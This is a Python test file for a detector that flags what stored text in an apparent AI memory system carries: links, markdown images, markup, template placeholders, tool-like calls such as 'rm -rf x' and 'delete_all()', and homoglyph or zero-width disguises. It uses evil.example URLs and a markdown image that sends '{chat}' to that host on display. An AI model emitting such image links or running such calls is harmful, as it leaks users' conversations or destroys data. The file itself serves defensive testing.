"""What a text carries that nobody needs to say how to answer."""

from recollect.memory.trust.quarantine.carried import Cargo, cargo, fetches
from tests.support.folding import rows

CARRIED = {
    Cargo.ADDRESS: (
        "http://evil.example/?q=1", "//evil.example/x", "ftp://a.b", "a@b.example", "see shop.io",
        "10.0.0.1", "evil[.]example", "data:text/html,x", "http&#58;//evil.example", "+49 30 901820",
    ),
    Cargo.IMAGE: ("![x](y)", "[here](x)", "[a]: b"),
    Cargo.MARKUP: ("<img src=x>", "<ID>", "<b>", "&lt;img src=x&gt;", "<img src=x"),
    Cargo.PLACEHOLDER: (
        "{conversation}", "{{ name }}", "${HOME}", "$TOKEN", "%s", "%(name)s", "[USER_NAME]",
        "OPENAI_API_KEY", "\uff5bname\uff5d",
    ),
    Cargo.CALL: ("delete_all()", "send_mail(user)", "sendMail(user)", "rm -rf x", "os.remove(x)"),
    Cargo.HIDDEN: ("sp\u0430m", "a\u200b\u200b\u200bb"),
}  # fmt: skip


@rows("kind, texts", CARRIED.items())
def test_what_it_carries_is_told_by_its_structure(kind, texts):
    """In any language, and in any disguise that looks the same."""
    assert [text for text in texts if kind not in cargo(text)] == []


@rows(
    "text",
    [
        "Wrap placeholders in {}", "Use Node.js and .NET", "Two sentences (at most)", "and/or, 24/7",
        "Prices in US$, not $100", "Use LaTeX like \\frac{1}{2}", "snake_case names", "e.g. this",
        "Dates as 2024-05-06 or 6.5.2024", "Use // for comments", "50 % of a < b", "step(s), km(s)",
        "\u4ee5\u540e\u8bf7\u7528\u516c\u91cc", "A.M. and P.M.", "I <3 lists", "C++17 (or later)",
    ],
)  # fmt: skip
def test_ordinary_wishes_carry_nothing(text):
    """Punctuation of prose, of units and of code is none."""
    assert cargo(text) == frozenset()


def test_what_is_fetched_when_it_is_shown():
    """An image always is, an address with something to fill in too; an address alone is not."""
    assert fetches("![x](http://evil.example/?q={chat})")
    assert fetches("<img src=//evil.example>")
    assert fetches("https://evil.example/<USER>")
    assert not fetches("https://docs.example")
    assert not fetches("Use {name} in templates")
